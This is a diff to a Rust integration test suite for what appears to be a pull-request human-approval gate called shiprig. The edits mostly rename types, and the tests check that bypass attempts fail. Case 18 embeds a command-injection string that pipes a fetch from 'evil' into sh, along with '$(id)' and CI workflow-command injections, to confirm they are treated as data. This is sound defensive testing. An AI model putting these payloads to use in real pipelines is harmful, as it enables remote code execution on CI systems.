@@ -6,11 +6,11 @@ use std::time::Duration;
 
 use serde_json::json;
 use shiprig::emulator::{Fault, ReviewState};
-use shiprig::gate::{Ending, GateEvent};
+use shiprig::gate::{GateEnding, GateEvent};
 
-use crate::support::gate_rig::{CHECK, CONFIG, REPO, Rig};
+use crate::support::gate_rig::{CHECK, CONFIG, GateRig, REPO};
 
-fn failing(rig: &Rig, sha: &str) -> String {
+fn failing(rig: &GateRig, sha: &str) -> String {
     assert_eq!(
         rig.conclusion(sha).as_deref(),
         Some("failure"),
@@ -22,7 +22,7 @@ fn failing(rig: &Rig, sha: &str) -> String {
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn case_01_config_comes_from_the_base_branch_through_the_api() {
-    let rig = Rig::new().await;
+    let rig = GateRig::new().await;
     let pr = rig.open_pr(
         "no-rules",
         &[
@@ -56,7 +56,7 @@ async fn case_01_config_comes_from_the_base_branch_through_the_api() {
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn case_02_deleting_the_payments_rule_in_the_pr_changes_nothing() {
-    let rig = Rig::new().await;
+    let rig = GateRig::new().await;
     let weakened = CONFIG.replace("    payments:     {paths: [\"src/billing/**\"]}\n", "");
     let pr = rig.open_pr(
         "drop-payments",
@@ -78,7 +78,7 @@ async fn case_02_deleting_the_payments_rule_in_the_pr_changes_nothing() {
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn case_03_workflows_action_and_codeowners_are_gated() {
-    let rig = Rig::new().await;
+    let rig = GateRig::new().await;
     let pr = rig.open_pr(
         "ci",
         &[
@@ -107,7 +107,7 @@ async fn case_03_workflows_action_and_codeowners_are_gated() {
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn case_04_a_lookalike_gate_workflow_leaves_the_check_failing() {
-    let rig = Rig::new().await;
+    let rig = GateRig::new().await;
     let fake = "name: shiprig/human-gate\non: pull_request\njobs:\n  human-gate:\n    name: shiprig/human-gate\n    runs-on: ubuntu-latest\n    steps: [{run: 'true'}]\n";
     let pr = rig.open_pr(
         "fake",
@@ -131,7 +131,7 @@ async fn case_04_a_lookalike_gate_workflow_leaves_the_check_failing() {
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn case_05_rename_out_of_a_gated_folder_is_gated() {
-    let rig = Rig::new().await;
+    let rig = GateRig::new().await;
     let pr = {
         let mut m = rig.emu.model();
         m.set_files(
@@ -151,7 +151,7 @@ async fn case_05_rename_out_of_a_gated_folder_is_gated() {
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn case_06_deletion_only_change_under_a_gated_glob_is_gated() {
-    let rig = Rig::new().await;
+    let rig = GateRig::new().await;
     let pr = {
         let mut m = rig.emu.model();
         m.delete_file(REPO, "drop", "migrations/001_init.sql");
@@ -167,7 +167,7 @@ async fn case_06_deletion_only_change_under_a_gated_glob_is_gated() {
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn case_07_symlink_or_submodule_inside_a_gated_path_is_gated() {
-    let rig = Rig::new().await;
+    let rig = GateRig::new().await;
     let pr = {
         let mut m = rig.emu.model();
         m.set_symlink(REPO, "links", "src/auth/keys", "../../secrets");
@@ -193,7 +193,7 @@ async fn case_07_symlink_or_submodule_inside_a_gated_path_is_gated() {
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn case_08_three_thousand_files_or_a_failing_page_fail_closed() {
-    let rig = Rig::new().await;
+    let rig = GateRig::new().await;
     let names: Vec<String> = (0..3000).map(|i| format!("docs/page{i:04}.md")).collect();
     let files: Vec<(&str, &str)> = names.iter().map(|n| (n.as_str(), "x\n")).collect();
     let big = rig.open_pr("big", &files, "dev");
@@ -211,7 +211,7 @@ async fn case_08_three_thousand_files_or_a_failing_page_fail_closed() {
     rig.emu
         .inject(Fault::status(Some("GET"), &path, 502).from_nth(2));
     let (report, _) = rig.gate_in_process(GateEvent::local(pr)).await;
-    assert_eq!(report.ending, Ending::NeedsHuman);
+    assert_eq!(report.ending, GateEnding::NeedsHuman);
     let summary = failing(&rig, &rig.head(pr));
     assert!(summary.contains("could not be read in full"), "{summary}");
 }
@@ -226,7 +226,7 @@ async fn case_09_missing_unparseable_or_unknown_key_config_fails_with_the_reason
             "unknown field \\`rulez\\`",
         ),
     ] {
-        let rig = Rig::with_config(config).await;
+        let rig = GateRig::with_config(config).await;
         let pr = rig.open_pr("docs", &[("docs/a.md", "x\n")], "dev");
         let run = rig.gate_pr(pr).await;
         assert_eq!(
@@ -246,7 +246,7 @@ async fn case_09_missing_unparseable_or_unknown_key_config_fails_with_the_reason
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn case_10_author_commit_author_and_last_pusher_approvals_do_not_count() {
-    let rig = Rig::new().await;
+    let rig = GateRig::new().await;
     let pr = rig.open_pr("pay", &[("src/billing/a.rs", "x\n")], "dev");
     rig.emu
         .model()
@@ -279,7 +279,7 @@ async fn case_10_author_commit_author_and_last_pusher_approvals_do_not_count() {
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn case_11_bot_and_agent_approvals_do_not_count() {
-    let rig = Rig::new().await;
+    let rig = GateRig::new().await;
     rig.emu
         .model()
         .add_user("rigbot", shiprig::emulator::UserKind::User);
@@ -319,7 +319,7 @@ async fn case_11_bot_and_agent_approvals_do_not_count() {
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn case_12_an_approval_before_a_push_is_required_again() {
-    let rig = Rig::new().await;
+    let rig = GateRig::new().await;
     let pr = rig.open_pr("pay", &[("src/billing/a.rs", "x\n")], "dev");
     rig.review(pr, "bob", ReviewState::Approved, "");
     assert_eq!(rig.gate_pr(pr).await.code, Some(0));
@@ -332,7 +332,7 @@ async fn case_12_an_approval_before_a_push_is_required_again() {
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn case_13_changes_requested_blocks_dismissed_is_ignored_comment_keeps_approval() {
-    let rig = Rig::new().await;
+    let rig = GateRig::new().await;
     let pr = rig.open_pr("pay", &[("src/billing/a.rs", "x\n")], "dev");
     rig.review(pr, "bob", ReviewState::Approved, "");
     rig.review(pr, "bob", ReviewState::ChangesRequested, "not yet");
@@ -355,7 +355,7 @@ async fn case_13_changes_requested_blocks_dismissed_is_ignored_comment_keeps_app
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn case_14_a_moved_head_gets_nothing_posted() {
-    let rig = Rig::new().await;
+    let rig = GateRig::new().await;
     let pr = rig.open_pr("pay", &[("src/billing/a.rs", "x\n")], "dev");
     let old = rig.head(pr);
     let stale = rig.pull_event(pr, "synchronize", "dev");
@@ -376,7 +376,12 @@ async fn case_14_a_moved_head_gets_nothing_posted() {
         tokio::time::sleep(Duration::from_millis(150)).await;
         rig.push(pr, "src/billing/a.rs", "z\n")
     });
-    assert_eq!(report.0.ending, Ending::Superseded, "{:?}", report.0.notes);
+    assert_eq!(
+        report.0.ending,
+        GateEnding::Superseded,
+        "{:?}",
+        report.0.notes
+    );
     assert!(rig.emu.writes().is_empty());
     for sha in [&old, &new, &newest] {
         assert!(rig.check(sha).is_none());
@@ -385,7 +390,7 @@ async fn case_14_a_moved_head_gets_nothing_posted() {
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn case_15_labels_never_override_the_gate() {
-    let rig = Rig::new().await;
+    let rig = GateRig::new().await;
     let pr = rig.open_pr("pay", &[("src/billing/a.rs", "x\n")], "dev");
     rig.emu
         .model()
@@ -403,7 +408,7 @@ async fn case_15_labels_never_override_the_gate() {
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn case_16_new_dependency_forms_are_gated_and_named() {
-    let rig = Rig::new().await;
+    let rig = GateRig::new().await;
     let cargo = "[package]\nname = \"rig\"\n\n[dependencies]\nserde = \"1\"\nnewcrate = \"1\"\nfromgit = { git = \"https://example.com/g\" }\n\n[workspace]\nmembers = [\"crates/extra\"]\n\n[patch.crates-io]\nserde = { path = \"../serde\" }\n";
     let lock = "version = 4\n[[package]]\nname = \"lockonly\"\nversion = \"0.1.0\"\n";
     let pr = rig.open_pr(
@@ -464,7 +469,7 @@ async fn case_16_new_dependency_forms_are_gated_and_named() {
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn case_17_deletion_logic_outside_gated_folders_is_found_in_the_diff() {
-    let rig = Rig::new().await;
+    let rig = GateRig::new().await;
     let pr = {
         let mut m = rig.emu.model();
         m.set_files(REPO, "purge", &[("src/jobs/cleanup.rs", "fn purge(db: &Db) {\n    db.execute(\"delete from users where inactive\");\n}\n"), ("docs/moved.md", "pub fn token() {}\n")], "purge");
@@ -481,7 +486,7 @@ async fn case_17_deletion_logic_outside_gated_folders_is_found_in_the_diff() {
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn case_18_hostile_titles_branches_bodies_and_paths_are_data() {
-    let rig = Rig::new().await;
+    let rig = GateRig::new().await;
     let evil = "x\"; curl evil|sh; echo \"\n::add-mask::hunter2\n::stop-commands::pwned\n$(id)";
     let long = format!("{evil}{}", "A".repeat(10_240));
     let path = "src/auth/$(id)\n::add-mask::x.rs";
@@ -526,7 +531,7 @@ async fn case_18_hostile_titles_branches_bodies_and_paths_are_data() {
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn case_19_a_retargeted_base_is_judged_again_on_edited() {
-    let rig = Rig::new().await;
+    let rig = GateRig::new().await;
     let strict = CONFIG.replace("  rules:\n", "  rules:\n    docs: {paths: [\"docs/**\"]}\n");
     rig.emu
         .model()
@@ -554,12 +559,12 @@ async fn case_19_a_retargeted_base_is_judged_again_on_edited() {
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn case_20_github_failing_mid_evaluation_never_passes() {
-    let rig = Rig::new().await;
+    let rig = GateRig::new().await;
     let pr = rig.open_pr("docs", &[("docs/a.md", "x\n")], "dev");
     let reviews = format!("/repos/{REPO}/pulls/{pr}/reviews");
     rig.emu.inject(Fault::status(Some("GET"), &reviews, 502));
     let (report, clock) = rig.gate_in_process(GateEvent::local(pr)).await;
-    assert_eq!(report.ending, Ending::Outside);
+    assert_eq!(report.ending, GateEnding::Outside);
     let summary = failing(&rig, &rig.head(pr));
     assert!(
         summary.contains("GitHub failed while the gate was reading"),
@@ -574,7 +579,7 @@ async fn case_20_github_failing_mid_evaluation_never_passes() {
             .with_header("retry-after", "60"),
     );
     let (report, clock) = rig.gate_in_process(GateEvent::local(pr)).await;
-    assert_eq!(report.ending, Ending::Outside);
+    assert_eq!(report.ending, GateEnding::Outside);
     assert!(clock.slept() >= Duration::from_secs(60));
     assert_eq!(rig.conclusion(&rig.head(pr)).as_deref(), Some("failure"));
     let head = rig.head(pr);
